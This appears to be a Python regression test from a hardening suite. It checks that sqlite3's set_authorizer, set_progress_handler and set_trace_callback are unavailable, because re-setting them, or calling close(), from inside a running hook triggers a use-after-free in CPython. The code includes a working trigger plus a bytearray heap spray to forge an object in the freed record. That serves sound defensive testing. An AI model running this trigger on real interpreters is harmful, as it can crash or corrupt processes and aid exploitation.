# expect: ok
# value: 1
# sqlite keeps a connection's authorizer, progress handler and trace callback in a 24-byte C record it hands back to
# each call. A hook that set itself again (here cleared: `set_authorizer(None)`) freed that record while sqlite was
# inside it, and on the way out of a hook that raised, C read the freed block: its module state, then its callable
# slot, handed to `sys.unraisablehook` (a bytearray buffer of the code's own refills the block: a forged object). The
# same with `close()` from inside a progress handler: the record was freed and the handler called again from it.
# Plain 3.11.7 died of SIGSEGV (`crashed`). Where the hook runs those three setters do not exist (AttributeError), so no
# such record is ever made, and every attempt is refused before it starts: 1.
import sqlite3

QUERY = "with recursive c(x) as (select 1 union all select x + 1 from c where x < 200) select sum(x) from c"


def attempt(kind):
    con = sqlite3.connect(":memory:")
    calls, spray = [], []

    def hook(*args):
        calls.append(1)
        if len(calls) == 2:
            if kind == "close":
                con.close()
                spray.extend(bytearray(b"A" * 23) for _ in range(64))
                return 0
            if kind == "progress":
                con.set_progress_handler(None, 1)
            else:
                getattr(con, "set_" + kind)(None)
            spray.extend(bytearray(b"A" * 23) for _ in range(64))
            raise ValueError("replaced")
        return 0

    try:
        if kind in ("progress", "close"):
            con.set_progress_handler(hook, 1)
        elif kind == "authorizer":
            con.set_authorizer(hook)
        else:
            con.set_trace_callback(hook)
    except AttributeError:
        return "refused"
    del hook
    sqlite3.enable_callback_tracebacks(True)
    try:
        con.execute(QUERY).fetchall()
        con.execute("select 2").fetchall()
    except Exception:  # sqlite's error for the interrupted statement: the attack ran
        pass
    return "ran"


def check(**p):
    outcomes = [attempt(kind) for kind in ("authorizer", "progress", "trace_callback", "close")]
    return 1 if outcomes == ["refused"] * 4 else f"hooks set and run: {outcomes!r}"
